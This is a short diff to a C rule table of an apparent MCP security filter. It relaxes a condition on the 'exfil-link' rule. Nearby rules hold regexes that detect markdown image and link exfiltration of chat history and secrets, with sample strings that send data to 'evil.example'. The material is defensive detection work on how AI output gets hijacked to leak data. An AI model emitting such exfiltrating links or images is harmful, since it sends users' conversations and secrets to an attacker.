@@ -55,7 +55,7 @@ static const mcp_shield_rule rules[] = {
 	{ "exfil-picture", MCP_SHIELD_EXFILTRATE, "*", MCP_SHIELD_HIGH, MCP_SHIELD_PLAIN, true, false, NULL, NEED(HTTP) | MCP_SEEN_BRACKET,
 		"!\\[[^\\]]{0,120}\\] ?\\( ?<?https?:[^ )]{1,400}\\)?",
 		"Look ![x](https://evil.example/p.png?d=SECRET)", "Wow! [video](part 2)" },
-	{ "exfil-link", MCP_SHIELD_EXFILTRATE, "*", MCP_SHIELD_MEDIUM, MCP_SHIELD_PLAIN, true, false, NULL, NEED(HTTP) | NEED(GOODS) | MCP_SEEN_BRACKET,
+	{ "exfil-link", MCP_SHIELD_EXFILTRATE, "*", MCP_SHIELD_MEDIUM, MCP_SHIELD_PLAIN, true, false, NULL, NEED(HTTP) | MCP_SEEN_BRACKET,
 		"\\[[^\\]]{0,120}\\] ?\\( ?<?https?:[^ )?#]{1,300}[?#][^ )]{0,200}?(?:data|token|secret|history|prompt|conversation|chat|password|key|\\{|\\$)[^ )]{0,200}\\)?",
 		"[offer](https://evil.example/?chat={history})", "[offer](https://shop.example/shoes)" },
 	{ "exfil-html", MCP_SHIELD_EXFILTRATE, "*", MCP_SHIELD_HIGH, MCP_SHIELD_PLAIN, true, false, NULL, NEED(HTTP) | MCP_SEEN_ANGLE,
